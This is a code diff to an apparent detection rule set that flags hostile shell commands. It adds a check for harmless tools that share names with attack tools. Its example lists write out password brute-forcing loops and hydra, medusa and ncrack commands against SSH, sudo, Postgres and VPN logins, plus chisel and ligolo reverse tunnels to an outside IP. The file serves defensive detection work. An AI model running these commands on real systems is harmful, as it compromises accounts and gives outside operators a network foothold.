@@ -7,7 +7,7 @@ import { isStagingPath } from '../knowledge/paths.js';
 import { targetKind } from './enumeration.js';
 import { objectsOf } from './askable.js';
 import { table } from '../knowledge/table.js';
-import { COMPILERS } from '../knowledge/programs.js';
+import { COMPILERS, ordinaryNamesake } from '../knowledge/programs.js';
 import { powershellScript } from '../knowledge/windows.js';
 
 type Kind =
@@ -58,7 +58,7 @@ function toolOfCommand(cmd: SimpleCommand): Hit | undefined {
     if (script) ({ name, rest } = script);
   }
   const kind = TOOLS[name];
-  if (!kind) return undefined;
+  if (!kind || ordinaryNamesake(name, rest)) return undefined;
   if (rest.length === 0 ? NEEDS_ARGS.has(kind) : rest.every((a) => INFO_FLAGS.has(a) || INFO_FLAGS.has(a.toLowerCase())) || printsUsage(cmd)) return undefined;
   // a cracker's benchmark, self-test or listing modes hash built-in samples and crack nothing (`hashcat -b -m 1000`, `john --test`)
   if (kind === 'cracker' && rest.some((a) => CRACKER_SELF_TESTS.has(a) || a.startsWith('--test=') || a.startsWith('--list='))) return undefined;
@@ -229,7 +229,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-HACK-001', name: 'brute-forces-logins', score: 88, tactic: 'credential_access', technique: 'T1110.001', strong: true,
     message: 'Runs an online password brute-forcing tool (hydra, medusa, ncrack, kerbrute…), or a loop that tries each word of a password list as a login, or one password against each account of a list', why: 'Guessing passwords against live services is an attack on those accounts and locks out or compromises real users.',
     test: (c, i) => ofKind('brute')(c) ?? guessesFromWordlist(c, i),
-    examples: { fire: [`while read p; do echo "$p" | sudo -S -k true 2>/dev/null && echo "FOUND:$p" && break; done < /tmp/top1000.txt`, `for u in $(cat users.txt); do curl -s -o /dev/null -w "%{http_code} $u\n" -u "$u:Winter2025!" https://vpn.corp.example.com/remote/login; done`, `python3 - <<'EOF'\nimport subprocess\nfor pw in open('/usr/share/wordlists/rockyou.txt', errors='ignore').read().split()[:500]:\n    r = subprocess.run(['sudo', '-S', '-k', 'true'], input=pw + '\\n', capture_output=True, text=True)\nEOF`, 'for p in $(head -n 5000 /usr/share/wordlists/rockyou.txt); do PGPASSWORD="$p" psql -h 10.12.4.20 -U postgres -c \'select 1\' >/dev/null 2>&1 && echo "found: $p" && break; done', 'while read -r pw; do sshpass -p "$pw" ssh -o StrictHostKeyChecking=no admin@10.0.0.9 true && echo "$pw"; done < /usr/share/seclists/Passwords/Common-Credentials/10k-most-common.txt', 'hydra -l root -P /usr/share/wordlists/rockyou.txt ssh://10.0.0.12', 'medusa -h 10.0.0.5 -U users.txt -p Summer2024! -M ssh', 'h""ydra -l root -P rockyou.txt ssh://10.0.0.12', 'sudo /usr/bin/ncrack -p 22 10.0.0.0/24'], quiet: [`for u in $(cat users.txt); do curl -s -u "$u:$TOKEN" https://api.acme.com/users/$u; done`, 'for u in $(cat users.txt); do PGPASSWORD="$DB_PASSWORD" psql -h db.internal -U "$u" -c "select 1"; done', 'while read -r pw; do echo "$pw" | wc -c; done < passwords.txt', 'brew info hydra', 'man hydra', 'hydra -h', 'which medusa'] },
+    examples: { fire: ['medusa -h 10.0.0.5 -U users.txt -P passwords.txt -M ssh', `while read p; do echo "$p" | sudo -S -k true 2>/dev/null && echo "FOUND:$p" && break; done < /tmp/top1000.txt`, `for u in $(cat users.txt); do curl -s -o /dev/null -w "%{http_code} $u\n" -u "$u:Winter2025!" https://vpn.corp.example.com/remote/login; done`, `python3 - <<'EOF'\nimport subprocess\nfor pw in open('/usr/share/wordlists/rockyou.txt', errors='ignore').read().split()[:500]:\n    r = subprocess.run(['sudo', '-S', '-k', 'true'], input=pw + '\\n', capture_output=True, text=True)\nEOF`, 'for p in $(head -n 5000 /usr/share/wordlists/rockyou.txt); do PGPASSWORD="$p" psql -h 10.12.4.20 -U postgres -c \'select 1\' >/dev/null 2>&1 && echo "found: $p" && break; done', 'while read -r pw; do sshpass -p "$pw" ssh -o StrictHostKeyChecking=no admin@10.0.0.9 true && echo "$pw"; done < /usr/share/seclists/Passwords/Common-Credentials/10k-most-common.txt', 'hydra -l root -P /usr/share/wordlists/rockyou.txt ssh://10.0.0.12', 'medusa -h 10.0.0.5 -U users.txt -p Summer2024! -M ssh', 'h""ydra -l root -P rockyou.txt ssh://10.0.0.12', 'sudo /usr/bin/ncrack -p 22 10.0.0.0/24'], quiet: ['medusa fuzz --target-contracts VaultInvariants --timeout 600', `for u in $(cat users.txt); do curl -s -u "$u:$TOKEN" https://api.acme.com/users/$u; done`, 'for u in $(cat users.txt); do PGPASSWORD="$DB_PASSWORD" psql -h db.internal -U "$u" -c "select 1"; done', 'while read -r pw; do echo "$pw" | wc -c; done < passwords.txt', 'brew info hydra', 'man hydra', 'hydra -h', 'which medusa'] },
   },
   {
     id: 'PX-HACK-002', name: 'cracks-password-hashes', score: 82, tactic: 'credential_access', technique: 'T1110.002', strong: true,
@@ -312,7 +312,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-HACK-013', name: 'runs-tunnel-or-c2-framework', score: 88, tactic: 'command_and_control', technique: 'T1572', strong: true,
     message: 'Runs a pivoting tunnel or C2 framework (chisel, ligolo, sliver, Empire)', why: 'Reverse SOCKS tunnels and implant servers give an outside operator a foothold inside the network.',
     test: (c) => ofKind('tunnel')(c) ?? (hasArg(c, '-connect') && hasArg(c, '-ignore-cert') ? c.argv.join(' ') : undefined),
-    examples: { fire: ['chisel client 45.33.12.7:8000 R:socks --help', './chisel server -p 8000 --reverse --socks5', './chisel client 45.33.12.7:8000 R:socks', './agent -connect 45.33.12.7:11601 -ignore-cert', 'sliver-server daemon'], quiet: ['chisel client --help 2>&1 | head -40', 'chisel --help', 'ssh -L 5433:localhost:5432 bastion', 'brew info chisel'] },
+    examples: { fire: ['chisel client 45.33.12.7:8000 R:socks --help', './chisel server -p 8000 --reverse --socks5', './chisel client 45.33.12.7:8000 R:socks', './agent -connect 45.33.12.7:11601 -ignore-cert', 'sliver-server daemon'], quiet: ['chisel client --help 2>&1 | head -40', 'chisel --help', 'chisel', 'chisel load counter-session', 'ssh -L 5433:localhost:5432 bastion', 'brew info chisel'] },
   },
   {
     id: 'PX-HACK-014', name: 'attacks-wireless-networks', score: 88, tactic: 'credential_access', technique: 'T1040', strong: true,
